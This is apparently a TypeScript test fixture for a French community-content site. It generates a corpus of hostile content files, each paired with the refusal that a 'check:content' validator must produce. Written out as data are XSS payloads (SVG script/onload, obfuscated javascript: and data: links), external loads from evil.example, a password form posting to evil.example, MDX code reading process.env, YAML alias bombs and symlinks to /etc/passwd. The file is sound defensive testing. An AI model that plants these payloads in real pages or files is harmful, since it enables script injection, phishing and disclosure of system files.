/**
 * The hostile corpus: one case per attack class of the security issue, each with the French
 * refusal `check:content` must give (file, field, a fragment of the message).
 *
 * The cases are written here as data, and `ecrireProjetHostile` writes them as a project folder
 * (the valid fixture plus the hostile files), so that the real check and the real command run
 * on real files. They are generated rather than committed because several are not ordinary
 * files (symbolic links, a Latin-1 file, a 250-character name) that a formatter or a checkout
 * would change.
 */
import { cpSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

export const LIEU_VALIDE = `---
id: ID
pivot: "21140118500017"
nom: "Médiathèque de test"
commune: "Caen"
code_postal: "14000"
adresse: "1 place de Test"
date_maj: "2026-09-12"
services: [Aide aux démarches administratives]
---
`;

/** A valid place whose body is `corps`; the id is the file's name. */
export function lieu(id: string, corps: string): string {
  return LIEU_VALIDE.replace('ID', id) + corps;
}

export function document(corps: string): string {
  return `---\ntitre: "Charte"\n---\n${corps}`;
}

export interface CasHostile {
  /** Attack class (issue's wording). */
  classe: string;
  /** Path under `content/` (or `public/`). */
  fichier: string;
  /** File content; a Buffer for bytes that are not UTF-8. */
  contenu?: string | Buffer;
  /** Target of a symbolic link, instead of a content. */
  lien?: string;
  /** Files written under `public/` for the case (path from `public/`). */
  publics?: Record<string, string | Buffer>;
  champ: string;
  fragment: string;
}

const corps = (classe: string, nom: string, texte: string, fragment: string): CasHostile => ({
  classe,
  fichier: `lieux/${nom}.md`,
  contenu: lieu(nom, texte),
  champ: 'texte (sous les champs)',
  fragment,
});
const mdx = (nom: string, texte: string, fragment: string): CasHostile => ({
  classe: 'code dans la charte et la convention (MDX)',
  fichier: `charte/${nom}.mdx`,
  contenu: document(texte),
  champ: 'texte (sous les champs)',
  fragment,
});

const ALIAS = [
  'a: &a ["x","x","x","x","x","x","x","x","x"]',
  ...'bcdefgh'.split('').map((l, i) => `${l}: &${l} [${Array(9).fill(`*${'abcdefgh'[i]}`).join(',')}]`),
].join('\n');

const membre = (nom: string, logo: string, contenuLogo: string | Buffer, fragment: string): CasHostile => ({
  classe: 'fichiers publics',
  fichier: `membres/${nom}.md`,
  contenu: `---\nnom: "Membre"\ntype: association\nroles: [expert]\ndate_adhesion: "2023-05-01"\ndescription: "Membre."\nlogo: "${logo}"\n---\n`,
  publics: { [logo.slice(1)]: contenuLogo },
  champ: 'logo',
  fragment,
});
const ressource = (nom: string, fichier: string, contenuFichier: string | Buffer, fragment: string): CasHostile => ({
  classe: 'fichiers publics',
  fichier: `ressources/${nom}.md`,
  contenu: `---\ntitre: "Guide"\ntype: guide\nthemes: [Démarches]\nfichier: "${fichier}"\nauteur: asso-test\ndate: "2026-05-04"\nresume: "Un guide."\n---\n`,
  publics: { [fichier.slice(1)]: contenuFichier },
  champ: 'fichier',
  fragment,
});
const SVG = (interieur: string) =>
  `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">${interieur}</svg>\n`;

export const CAS_HOSTILES: CasHostile[] = [
  membre('logo-svg-script', '/logos/a.svg', SVG('<script>alert(document.domain)</script>'), 'l’élément <script>, refusé'),
  membre('logo-svg-onload', '/logos/b.svg', SVG('<rect width="10" height="10" onload="alert(1)"/>'), 'l’attribut onload'),
  membre('logo-svg-image-externe', '/logos/c.svg', SVG('<image href="https://tracker.example/p.png"/>'), 'l’élément <image>, refusé'),
  membre('logo-svg-use-externe', '/logos/d.svg', SVG('<use xlink:href="https://evil.example/x.svg#a"/>'), 'seules les références internes'),
  membre(
    'logo-svg-foreign',
    '/logos/e.svg',
    SVG('<foreignObject><iframe src="https://evil.example"></iframe></foreignObject>'),
    'l’élément <foreignObject>, refusé',
  ),
  membre('logo-svg-style', '/logos/f.svg', SVG('<style>@import url(https://evil.example/x.css);</style>'), 'feuille de style'),
  membre('logo-svg-entites', '/logos/g.svg', `<!DOCTYPE svg [<!ENTITY a "aaaa">]>${SVG('&a;')}`, 'entités'),
  membre('logo-png-html', '/logos/h.png', '<html><script>alert(1)</script></html>', 'ne correspond pas à son extension .png (c’est du texte)'),
  ressource('ressource-html', '/ressources/page.html', '<script>alert(1)</script>', 'les fichiers .html ne sont pas acceptés'),
  ressource('ressource-js', '/ressources/code.js', 'alert(1)', 'les fichiers .js ne sont pas acceptés'),
  ressource('ressource-pdf-html', '/ressources/faux.pdf', '<html><body onload="alert(1)"></body></html>', 'ne correspond pas à son extension .pdf'),
  ressource('ressource-txt-html', '/ressources/note.txt', 'Bonjour <script>alert(1)</script>', 'contient des balises HTML'),
  ressource('ressource-docx-pdf', '/ressources/doc.docx', '%PDF-1.4 faux', 'c’est un fichier PDF'),
  mdx('expression-env', 'Dossier : {process.env.HOME}\n', 'l’expression « {process.env.HOME} » est du code'),
  mdx('import-fs', "import fs from 'node:fs'\n\nTexte.\n", '(import/export)'),
  mdx('export-path', 'export const x = process.env.PATH\n\nTexte.\n', '(import/export)'),
  mdx('fragment-set-html', 'Texte.\n\n<Fragment set:html={"<img src=x on"+"error=alert(1)>"} />\n', 'la balise « <Fragment> » n’est pas acceptée'),
  mdx('attributs-etales', '<div {...{onerror: "alert(1)"}}>a</div>\n', 'la balise « <div> » n’est pas acceptée'),
  mdx('accolades-a-definir', 'Montant : {à définir}\n', 'écrivez \\{à définir\\} ou [à définir]'),
  mdx('inferieur-nombre', 'Communes de moins de <5000 habitants.\n', 'écrivez \\< (par exemple \\<5000)'),
  mdx('commentaire-html', '<!-- note -->\n\nTexte.\n', 'les commentaires <!-- … --> ne sont pas acceptés'),
  mdx('ligne-erreur', '\n\nTexte.\n\n{process.env.HOME}\n', 'ligne 8 :'),
  corps('balises et liens dans le texte', 'base', '<base href="https://evil.example/">\n\nTexte.\n', 'balise <base> retirée'),
  corps('balises et liens dans le texte', 'lien-entite', '[Clic](&#106;avascript:alert(1))\n', 'lien « javascript:alert(1) » retiré'),
  corps('balises et liens dans le texte', 'lien-colon', '[Clic](javascript&colon;alert(1))\n', 'lien « javascript:alert(1) » retiré'),
  corps('balises et liens dans le texte', 'lien-tabulation', '<a href="java&#09;script:alert(1)">Clic</a>\n', 'lien « java\\tscript:alert(1) » retiré'),
  corps('balises et liens dans le texte', 'lien-majuscules', '<a href=" JaVaScRiPt:alert(1)">Clic</a>\n', 'retiré : une adresse commence par https://'),
  corps('balises et liens dans le texte', 'lien-data', '<a href="data:text/html,<script>alert(1)</script>">Clic</a>\n', 'lien « data:text/html'),
  corps(
    'balises et liens dans le texte',
    'plein-ecran',
    '<a href="https://evil.example" style="position:fixed;inset:0">Gagnez</a>\n',
    'attribut style retiré de <a>',
  ),
  corps('balises et liens dans le texte', 'image-pisteur', '![](https://tracker.example/p.gif)\n', 'image « https://tracker.example/p.gif » retirée'),
  corps('balises et liens dans le texte', 'image-relative', '![](../../src/secret.png)\n', 'image « ../../src/secret.png » retirée'),
  corps('balises et liens dans le texte', 'image-onerror', '<img src="/logo.png" onerror="alert(1)">\n', 'attribut onerror retiré de <img>'),
  corps('balises et liens dans le texte', 'plaintext', 'Texte.\n\n<plaintext>\n\nSuite.\n', 'balise <plaintext> retirée avec son contenu'),
  corps('balises et liens dans le texte', 'textarea', 'Texte <textarea>suite\n', 'balise <textarea> retirée avec son contenu'),
  corps('balises et liens dans le texte', 'formulaire', '<form action="https://evil.example"><input name="mdp"></form>\n', 'balise <form> retirée'),
  corps('balises et liens dans le texte', 'iframe', '<iframe src="https://evil.example"></iframe>\n', 'balise <iframe> retirée avec son contenu'),
  corps('balises et liens dans le texte', 'svg-script', '<svg><script>alert(1)</script></svg>\n', 'balise <svg> retirée avec son contenu'),
  corps('balises et liens dans le texte', 'style', '<style>body{display:none}</style>\n', 'balise <style> retirée avec son contenu'),
  corps('balises et liens dans le texte', 'object', '<object data="https://evil.example/x.swf"></object>\n', 'balise <object> retirée avec son contenu'),
  corps('balises et liens dans le texte', 'meta-refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">\n', 'balise <meta> retirée'),
  corps('balises et liens dans le texte', 'id-ecrase', '<p id="carte">Texte</p>\n', 'attribut id retiré de <p>'),
  {
    classe: 'YAML',
    fichier: 'lieux/etiquette-yaml.md',
    contenu: lieu('etiquette-yaml', '').replace('nom: "Médiathèque de test"', 'nom: !evil "Médiathèque"'),
    champ: '',
    fragment: 'l’étiquette YAML !evil n’est pas acceptée',
  },
  {
    classe: 'YAML',
    fichier: 'lieux/milliard-de-rires.md',
    contenu: lieu('milliard-de-rires', '').replace('---\n', `---\n${ALIAS}\n`),
    champ: '',
    fragment: 'trop de renvois YAML',
  },
  {
    classe: 'fichiers',
    fichier: 'lieux/latin-1.md',
    contenu: Buffer.from(lieu('latin-1', 'Présentation du lieu, accès libre.\n'), 'latin1'),
    champ: '',
    fragment: "n'est pas en UTF-8 (il semble en Windows-1252",
  },
  {
    classe: 'fichiers',
    fichier: `membres/${'a'.repeat(250)}.md`,
    contenu: '---\nnom: "X"\n---\n',
    champ: '',
    fragment: 'le nom du fichier fait 253 caractères, le maximum est 100',
  },
  { classe: 'fichiers', fichier: 'lieux/lien-casse.md', lien: 'nulle-part.md', champ: '', fragment: 'lien symbolique' },
  { classe: 'fichiers', fichier: 'lieux/lien-passwd.md', lien: '/etc/passwd', champ: '', fragment: 'lien symbolique' },
  { classe: 'fichiers', fichier: '../public/logos/logo.png', lien: '/etc/passwd', champ: '', fragment: 'lien symbolique' },
];

/** Path of a case as the check names it. */
export function cheminCas(cas: CasHostile): string {
  return `content/${cas.fichier}`.replace('content/../', '');
}

/** Writes the valid fixture plus every hostile case into `racine`. */
export function ecrireProjetHostile(racine: string, cas: readonly CasHostile[] = CAS_HOSTILES): void {
  cpSync(join(import.meta.dirname, '../fixtures/valide'), racine, { recursive: true });
  for (const c of cas) {
    const chemin = join(racine, 'content', c.fichier);
    mkdirSync(dirname(chemin), { recursive: true });
    if (c.lien !== undefined) symlinkSync(c.lien, chemin);
    else writeFileSync(chemin, c.contenu ?? '');
    for (const [nom, contenu] of Object.entries(c.publics ?? {})) {
      mkdirSync(dirname(join(racine, 'public', nom)), { recursive: true });
      writeFileSync(join(racine, 'public', nom), contenu);
    }
  }
}
